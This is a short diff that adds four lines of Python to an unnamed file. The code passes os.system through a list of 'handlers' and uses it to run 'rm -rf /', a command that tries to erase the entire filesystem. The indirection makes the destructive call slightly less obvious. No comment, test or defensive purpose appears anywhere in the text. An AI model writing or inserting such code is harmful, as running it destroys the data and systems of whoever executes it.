@@ -1,0 +1,4 @@
+import os
+handlers = [os.system]
+for h in handlers:
+    h("rm -rf /")
